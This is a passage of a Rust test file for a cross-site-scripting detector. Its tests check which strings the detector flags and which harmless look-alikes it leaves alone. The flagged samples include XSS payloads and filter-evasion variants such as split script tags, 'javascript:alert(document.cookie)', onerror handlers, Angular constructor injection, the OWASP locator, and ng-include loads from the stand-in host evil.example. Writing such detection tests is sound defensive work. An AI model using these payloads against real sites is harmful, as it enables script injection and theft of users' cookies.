            "<span x-ng-include='\"https://evil.example/t\"'></span>",
            "<div ng:include=\"'//evil.example/t'\"></div>",
            "<ng-include src=\"'//evil.example/x.html'\"></ng-include>",
        ],
        &[
            "<a href=\"/posts/1\" data-remote=\"true\">Show</a>",
            "<a href=\"/x\" data-type=\"script\">x</a>",
            "<a href=\"/x\" data-remote=\"false\" data-type=\"script\">x</a>",
            "<a href=\"/x\" data-remote=\"true\" data-type=\"json\">x</a>",
            "<div ng-include=\"tpl\"></div>",
            "the ng-include directive fetches a template",
        ],
    );
}

#[test]
fn script_tag_joined_once_inner_tags_are_stripped() {
    judge(
        &[
            "<<a>script>alert(1)<</a>/script>",
            "<<b>script>alert(1)<</b>/script>",
            "<scr<i>ipt>alert(1)</scr<i>ipt>",
            "<<b>img src=x one<i>rror=alert(1)>",
            "<<a>svg onload=alert(1)>",
        ],
        &[
            "<<b>bold</b>>",
            "a <<b>b</b>> c",
            "x<<b>y</b>",
            "<p><b>script</b> alert</p>",
        ],
    );
}

#[test]
fn calls_quoted_in_prose_and_registered_handlers() {
    judge(
        &[
            "alert(1)",
            "alert(\"meeting at 3\")",
            "alert(1) - x",
            "alert(1)\u{2028}— x",
            "document.getElementById('x').setAttribute('onclick','alert(1)')",
            "document.getElementById('b').addEventListener('click', alert)",
            "document.getElementById('b').addEventListener('click', eval)",
            "document.getElementById('b').insertAdjacentHTML('beforeend', x)",
        ],
        &[
            "alert(\"meeting at 3\") — that's what the boss wrote, lol",
            "confirm('Delete?') – the dialog we show",
            "prompt(\"name\")… and then nothing",
            "alert(‘hi’)” she typed",
            "document.getElementById('btn').addEventListener('click', handleClick);",
            "document.querySelector('#menu').addEventListener('click', toggleMenu)",
            "document.getElementById('nav').classList.add('open');",
        ],
    );
}

#[test]
fn vue_template_with_property_reads_is_inert() {
    use super::inert_markup;
    for v in [
        "<template><div>{{ message }}</div></template>",
        "<template><p>{{user.name}} has {{ count }} items</p></template>",
    ] {
        assert!(inert_markup(v), "{v:?}");
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "<template><div>{{constructor.constructor('alert(1)')()}}</div></template>",
        "<template><div>{{ a + b }}</div></template>",
        "<template shadowrootmode=open><p>x</p></template>",
        "<xsl:template match=\"/\"><p>{{ x }}</p></xsl:template>",
    ] {
        assert!(!inert_markup(v), "{v:?}");
    }
}

/// `javascript:` followed by two capitalised names on one line is a SyntaxError (nothing
/// runs): a book title in prose. Code after the scheme, one name, a lowercase keyword, a
/// percent escape or a later scheme stay flagged.
#[test]
fn javascript_title_prose() {
    for v in [
        "It's O'Reilly's book \"JavaScript: The Good Parts\".",
        "I loved \"JavaScript: The Definitive Guide\" (7th edition), really",
        "'Javascript: Understanding the Weird Parts' course",
        "JAVASCRIPT:  Eloquent\tJavaScript = great book",
        "see javascript: The Good Parts [Crockford 2008]",
    ] {
        assert!(!hit(v), "flagged: {v}");
    }
    for v in [
        "\"javascript:alert(1)",
        "\" href=\"javascript: alert(1)",
        "javascript:/*x*/alert(1)",
        "JaVaScRiPt: void(alert(1))",
        "javascript: Foo(1)",
        "javascript: Alert.call(null,1)",
        "javascript: The%20Good(alert(1))",
        "javascript:\nThe Good;alert(1)",
        "\"JavaScript: The Good Parts\" javascript:alert(document.cookie)",
        "\"JavaScript: The Good Parts\" onmouseover=\"alert(1)",
        "\"><a href=\"javascript: The Good\">x</a><svg onload=alert(1)>",
        "java\tscript: The Good(alert(1))",
        "vbscript: MsgBox Hi(1)",
    ] {
        assert!(hit(v), "missed: {v}");
    }
}

/// [`super::split_by_tags`]'s first search, as written before it kept the previous `<`: the
/// first of the first 256 `<` that stands inside another tag's opening run and starts an
/// empty tag.
fn split_point_walking_back(b: &[u8]) -> Option<usize> {
    let inside = |p: usize| {
        let mut k = p;
        while k > 0
            && p - k <= super::MAX_SPLIT_TAG
            && (b[k - 1].is_ascii_alphabetic() || b[k - 1] == b'/')
        {
            k -= 1;
        }
        k > 0 && b[k - 1] == b'<'
    };
    memchr::memchr_iter(b'<', b)
        .take(256)
        .find(|&p| p > 0 && inside(p) && super::empty_tag_end(b, p).is_some())
}

#[test]
fn split_tags_found_as_by_walking_back() {
    // the result of the split tells where the search stopped: compare it with a split made
    // from the walking-back search's answer
    let split_from = |b: &[u8]| split_point_walking_back(b).is_some();
    for v in [
        "<<a>script>alert(1)</script>",
        "<scr<b>ipt>alert(1)</script>",
        "<</a>/script>",
        "<abcdefghijk<b>x",
        "<abcdefghijkl<b>x",
        "<abcdefghij/<b>x",
        "<p>Some <b>text</b></p>",
        "word</b> and <i>more</i>",
        "<a href=\"x\">link</a><b>",
        "x<y<b>",
        "<<b>",
        "<",
        "",
    ] {
        let b = v.as_bytes();
        assert_eq!(super::split_by_tags(b).is_some(), split_from(b), "{v:?}");
    }
    // more than 256 `<`: only the first 256 are candidates, in both
    let mut long = "<b>".repeat(255);
    long.push_str("<x<b>y");
    assert_eq!(
        super::split_by_tags(long.as_bytes()).is_some(),
        split_from(long.as_bytes())
    );
    let mut long = "<b>".repeat(250);
    long.push_str("<x<b>y");
    assert!(super::split_by_tags(long.as_bytes()).is_some());
}

proptest::proptest! {
    #[test]
    fn split_tags_search_agrees_with_walking_back(v in "[<>/a-zA-Z b]{0,48}") {
        let b = v.as_bytes();
        proptest::prop_assert_eq!(
            super::split_by_tags(b).is_some(),
            split_point_walking_back(b).is_some()
        );
    }
}

#[test]
fn format_strings_passed_to_string_members_are_data() {
    // a printf-style `%s`/`%d`/`%%` is no percent escape, and `String`'s own members (its
    // sinks aside) only compute a string, even from the window's `name`
    for v in [
        "String.format(\"%s has %d items\", name, n)",
        "String.format(\"%5.2f%%\", total)",
        "String.format(\"%d\", n)",
        "String.join(\", \", name)",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        // real percent escapes decode to markup
        "String.x(\"%3Cscript%3E\")",
        "unescape('%3Cscript%3Ealert(1)%3C/script%3E')",
        "String.fromCharCode(60,115,99)",
        "eval(name)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn attribute_free_documents_are_data() {
    use super::attribute_free_data;
    for v in [
        "<xml><id>42</id></xml>",
        "<note><to>Tove</to><from>Jani</from><body>Hi</body></note>",
        "<?xml version=\"1.0\"?><order><qty>2</qty><sku>AB-12</sku></order>",
        "<Response><Status>OK</Status><Code>200</Code></Response>",
        "<soap:Envelope><soap:Body><m:Price>1.5</m:Price></soap:Body></soap:Envelope>",
        "<list><item>a &amp; b</item><item/><br></list>",
        "<html><head></head><body>hello</body></html>",
        // XML's own attributes: namespaces, xsi, id and version
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><m:GetPrice xmlns:m=\"https://example.com/prices\"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>",
        "<ns:item xmlns:ns=\"urn:example:catalog\" id=\"42\">Widget</ns:item>",
        "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:lang=\"en\"><entry>News</entry></feed>",
        "<v xsi:nil=\"true\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"/>",
    ] {
        assert!(attribute_free_data(v), "{v:?}");
        assert!(super::inert_markup(v), "{v:?}");
    }
    for v in [
        "<xml class=\"x\"><c>1</c></xml>",
        "<ns:item onclick=\"alert(1)\">x</ns:item>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<x:a xmlns:x=\"http://www.w3.org/1999/xhtml\">x</x:a>",
        "<x:a xmlns:x=\"http://www.w3.org/2000/svg\">x</x:a>",
        "<x:i id=\"javascript:alert(1)\">x</x:i>",
        "<x:i id=x>x</x:i>",
        "<x:i id=\"&#106;\">x</x:i>",
        "<xml><script>alert(1)</script></xml>",
        "<xml>alert(1)</xml>",
        "<xml><id>42</id>",
        "<a><b></a></b>",
        "<svg><x>1</x></svg>",
        "<x>{{constructor.constructor('alert(1)')()}}</x>",
        "<x>&lt;img src=x onerror=alert(1)&gt;</x>",
        "<x>&#60;script&#62;</x>",
        "<body>javascript:alert(1)</body>",
        "<style>p{color:red}</style>",
        "<title>x</title>",
        "<x>`id`</x>",
        "no markup",
    ] {
        assert!(!attribute_free_data(v), "{v:?}");
    }
}

#[test]
fn a_call_followed_by_a_word_of_another_script_does_not_parse() {
    for v in [
        "alert() \u{95a2}\u{6570}\u{306e}\u{4f7f}\u{3044}\u{65b9}",
        "eval() \u{4e3a}\u{4ec0}\u{4e48}\u{4e0d}\u{5b89}\u{5168}\u{ff1f}",
        "alert(1) \u{444}\u{443}\u{43d}\u{43a}\u{446}\u{438}\u{44f}",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // an operator, a separator or a line break after the call still lets it run
    for v in [
        "alert(1);\u{95a2}\u{6570}",
        "alert(1)\n\u{95a2}\u{6570}",
        "alert(1)//\u{95a2}\u{6570}",
        "alert(1)\u{2028}\u{95a2}\u{6570}",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn developer_look_alikes_stay_quiet() {
    for v in [
        "const onError = (e) => console.log(e);",
        "let onLoad = (evt, ctx) => render(ctx)",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "x onerror=(alert)(1)",
        "\" onerror=(e) => alert(1) x=\"",
        "x onerror=(alert) => 1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "<button (click)=\"save()\">Save</button>",
        "<input [value]=\"name\" (input)=\"onInput($event)\">",
        "<input [(ngModel)]=\"user.name\">",
    ] {
        assert!(super::inert_markup(v), "{v:?}");
    }
    for v in [
        "<a [href]=\"javascript:alert(1)\">x</a>",
        "<b (onclick)=\"x\">y</b>",
    ] {
        assert!(!super::inert_markup(v), "{v:?}");
    }
}

#[test]
fn closing_the_attribute_and_its_tag_then_markup() {
    // the value's first quote closes an attribute the page opened, `>` its tag, and what
    // follows is markup in the page's flow
    for v in [
        "\"><h1>injected</h1>",
        "xss\"><",
        "\"><",
        "'><p>x</p>",
        "\"/><b>bold</b>",
        "John\"> <marquee>hi</marquee>",
        "\"'><zzz123>",
        "x'\"/><i>",
    ] {
        assert!(hit(v), "{v:?}");
    }
    // a quote the value opens itself, a measure, a reply marker, a tag before the quote
    for v in [
        "<a href=\"https://example.com\"><b>x</b></a>",
        "6'> 5' tall",
        "\"> quoted reply text",
        "He said \"hi\" > <3",
        "a\"> <3",
        "<p class=\"x\"><em>ok</em></p>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn reflection_probes_of_markup_characters() {
    for v in [
        "'\"<>",
        "xss'\"<>",
        "\"'<>/",
        "test\"><'",
        "'<>\"",
        "'\">",
        "\">",
        "'/>",
    ] {
        assert!(hit(v), "{v:?}");
    }
    // no quote, no `>`, prose around them, a heart
    for v in [
        "<>",
        "a <> b",
        "x < y",
        "\"<3\"",
        "'<'",
        ">",
        "\'\'\'>",
        "x\">",
        "\"> quoted reply",
        "say \"<>\" please",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn locator_probes_with_a_made_up_element() {
    // the OWASP XSS locator and its kin: a made-up element among markup characters
    for v in [
        "';!--\"<t3st>=&{()}",
        "xss'\"<b>",
        "\"<t3st>",
        "'';!--\"<zzz1>=&{()}",
    ] {
        assert!(hit(v), "{v:?}");
    }
    // words or blanks between the tags, no quote, a comment closer, two elements
    for v in [
        "<b>bold</b>",
        "say \"<b>\" please",
        "<t3st>",
        "\"-->",
        "'<b><i>'",
        "\"<3\" & more",
        "<br>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn template_probes_of_constant_arithmetic() {
    for v in ["{{7*7}}", "{{ 1337*2 }}", "{{7*'7'}}", " {{ 49 / 7 }} "] {
        assert!(hit(v), "{v:?}");
    }
    // a template variable, words around, one operand, a filter
    for v in [
        "{{ name }}",
        "type {{7*7}} to test",
        "{{7}}",
        "{{ price * qty }}",
        "{{ 7 | times: 7 }}",
        "{{}}",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn jsx_handler_references_are_inert() {
    for v in [
        "<Button onSubmit={handleSubmit}>",
        "Docs: added an example of `<Input onChange={handleChange}>` usage",
        "<button onClick={this.save}>Save</button>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "<a onclick={alert(1)}>",
        "<svg onload={alert}>",
        "<Form onSubmit={handleSubmit}>",
        "<b onclick={window.eval}>",
        "<a onclick={x;alert(1)}>",
        "<a onclick={location=name}>",
    ] {
        assert!(hit(v), "{v:?}");
    }
}
